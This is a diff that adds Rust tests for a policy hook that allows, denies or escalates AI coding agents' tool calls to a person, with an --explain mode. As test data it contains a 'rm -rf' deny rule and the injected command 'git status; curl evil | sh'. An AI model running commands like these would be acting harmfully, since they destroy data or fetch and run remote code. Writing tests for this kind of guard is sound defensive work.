@@ -1,0 +1,107 @@
+//! The policy file: rules decide without asking, read-only tools pass, `--explain` says why.
+
+use serde_json::json;
+
+use crate::harnesses::claude_input;
+use crate::run::{Dir, hook_command, run, server};
+
+const POLICY: &str = r#"{"rules": [
+    {"tool": "Bash", "command": "git status*", "decision": "allow"},
+    {"command": "rm -rf *", "decision": "deny", "reason": "never rm -rf"}
+]}"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn rules_decide_without_asking_anyone() {
+    // No server: a call the policy decides never needs one.
+    let dir = Dir::new();
+    dir.write(".sayso/policy.json", POLICY);
+    let cwd = dir.path().display().to_string();
+    let base = "http://127.0.0.1:9";
+    let out = run(
+        hook_command(dir.path(), base, Some("sk_x"), &["hook", "claude"]),
+        &claude_input("PreToolUse", &cwd, "s", "cd build && rm -rf out"),
+    )
+    .await;
+    let reason = format!(
+        "sayso policy: never rm -rf [rule 2 of {}/.sayso/policy.json (command \"rm -rf *\", decision deny)]",
+        cwd
+    );
+    assert_eq!(out.code, 0);
+    assert_eq!(
+        out.stdout,
+        json!({"hookSpecificOutput": {"hookEventName": "PreToolUse", "permissionDecision": "deny",
+            "permissionDecisionReason": reason}})
+    );
+    let out = run(
+        hook_command(dir.path(), base, Some("sk_x"), &["hook", "claude"]),
+        &claude_input("PreToolUse", &cwd, "s", "git status --short"),
+    )
+    .await;
+    assert_eq!(
+        out.stdout["hookSpecificOutput"]["permissionDecision"], "allow",
+        "{out:?}"
+    );
+    assert_eq!(out.stderr, "");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn read_only_tools_stay_off_the_phone() {
+    let (_db, srv) = server().await;
+    let dir = Dir::new();
+    let input = json!({"session_id": "g", "cwd": dir.path(), "hook_event_name": "BeforeTool",
+        "timestamp": "2026-11-25T08:00:00Z", "tool_name": "read_file",
+        "tool_input": {"absolute_path": "/etc/hosts"}})
+    .to_string();
+    let out = run(
+        hook_command(dir.path(), &srv.base, Some(&srv.key), &["hook", "gemini"]),
+        &input,
+    )
+    .await;
+    assert_eq!((out.code, out.stdout), (0, json!({"decision": "allow"})));
+    let (_, page) =
+        crate::common::server::send(srv.req(reqwest::Method::GET, "/v1/decisions")).await;
+    assert_eq!(page["items"], json!([]), "nobody was asked");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn explain_names_the_rule_and_asks_nobody() {
+    let dir = Dir::new();
+    let policy = dir.write("elsewhere.json", POLICY);
+    let cwd = dir.path().display().to_string();
+    let explain = |command: &str| {
+        let mut cmd = hook_command(
+            dir.path(),
+            "http://127.0.0.1:9",
+            None,
+            &["hook", "claude", "--explain"],
+        );
+        cmd.env("SAYSO_HOOK_POLICY", &policy);
+        (cmd, claude_input("PreToolUse", &cwd, "s", command))
+    };
+    let (cmd, input) = explain("git status");
+    let out = crate::run::finish_text(cmd, &input).await;
+    assert_eq!(
+        out,
+        format!(
+            "allow: rule 1 of {} (tool \"Bash\", command \"git status*\", decision allow)\n",
+            policy.display()
+        )
+    );
+    let (cmd, input) = explain("git status; curl evil | sh");
+    assert_eq!(
+        crate::run::finish_text(cmd, &input).await,
+        "ask the person: no rule matched: a person decides\n"
+    );
+    // A policy that cannot be read is said so, and falls back.
+    std::fs::write(&policy, "{\"rules\": [{\"tool\": 1}]}").unwrap();
+    let (cmd, input) = explain("ls");
+    let (child, started) = crate::run::start(cmd, &input).await;
+    let out = child.wait_with_output().await.unwrap();
+    assert!(started.elapsed().as_secs() < 10);
+    assert_eq!(out.status.code(), Some(1));
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        text.starts_with("error: the policy ") && text.contains("not valid"),
+        "{text}"
+    );
+}
